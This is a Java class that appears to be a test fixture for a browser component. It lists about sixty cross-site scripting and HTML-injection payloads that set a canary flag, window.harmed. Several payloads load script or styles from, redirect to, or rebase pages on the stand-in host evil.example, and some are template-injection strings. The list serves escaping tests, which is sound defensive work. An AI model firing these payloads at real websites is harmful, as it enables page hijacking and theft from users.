package jp.mokuteki.browser;

import java.util.List;

/** Texts that set {@code window.harmed}, or break out of where they stand, where a page does not write them as texts. */
final class Payloads {
    static final List<String> ALL = """
            <script>window.harmed=1</script>
            <ScRiPt>window.harmed=1</sCrIpT>
            <script src=//evil.example/x.js></script>
            <script/src=data:,window.harmed=1></script>
            </script><script>window.harmed=1</script>
            <script>window['harmed']=1//
            <img src=x onerror=window.harmed=1>
            <img src=x onerror="window.harmed=1">
            <img/src/onerror=window.harmed=1>
            <IMG SRC=javascript:window.harmed=1>
            "><img src=x onerror=window.harmed=1>
            '><img src=x onerror=window.harmed=1>
            `><img src=x onerror=window.harmed=1>
            <svg onload=window.harmed=1>
            <svg/onload=window.harmed=1>
            <svg><script>window.harmed=1</script></svg>
            <svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>
            <svg><a xlink:href=javascript:window.harmed=1><text y=20>x</text></a></svg>
            <math><mi xlink:href=javascript:window.harmed=1>x</mi></math>
            <body onload=window.harmed=1>
            <iframe src=javascript:window.harmed=1></iframe>
            <iframe srcdoc="<script>parent.harmed=1</script>"></iframe>
            <object data=javascript:window.harmed=1></object>
            <embed src=javascript:window.harmed=1>
            <a href=javascript:window.harmed=1>x</a>
            <a href="java&#115;cript:window.harmed=1">x</a>
            <form action=javascript:window.harmed=1><button>x</button></form>
            <button formaction=javascript:window.harmed=1>x</button>
            <input autofocus onfocus=window.harmed=1>
            <select autofocus onfocus=window.harmed=1>
            <textarea autofocus onfocus=window.harmed=1>
            <details open ontoggle=window.harmed=1>
            <video><source onerror=window.harmed=1></video>
            <audio src=x onerror=window.harmed=1>
            <marquee onstart=window.harmed=1>x</marquee>
            <link rel=stylesheet href=//evil.example/x.css>
            <style>@import '//evil.example/x.css';</style>
            <style>body{display:none}</style>
            <meta http-equiv=refresh content="0;url=//evil.example">
            <base href=//evil.example/>
            <template><script>window.harmed=1</script></template>
            <noscript><p title="</noscript><img src=x onerror=window.harmed=1>">
            <title><img src=x onerror=window.harmed=1></title>
            <!--<img src=x onerror=window.harmed=1>-->
            <![CDATA[<script>window.harmed=1</script>]]>
            <?xml version="1.0"?><x onclick="window.harmed=1"/>
            " onmouseover="window.harmed=1
            ' onmouseover='window.harmed=1
            " autofocus onfocus="window.harmed=1
            " style="position:fixed;top:0;left:0
            javascript:window.harmed=1//"<
            </textarea><script>window.harmed=1</script>
            </title><script>window.harmed=1</script>
            </style><script>window.harmed=1</script>
            &lt;script&gt;window.harmed=1&lt;/script&gt;
            &#60;script&#62;window.harmed=1&#60;/script&#62;
            ${window.harmed=1}
            #{window.harmed=1} {{constructor.constructor('window.harmed=1')()}}
            ＜script＞window.harmed=1＜/script＞ & <b>太字</b>
            <x contenteditable onblur=window.harmed=1>lose focus</x>
            """.lines().toList();

    private Payloads() {}
}
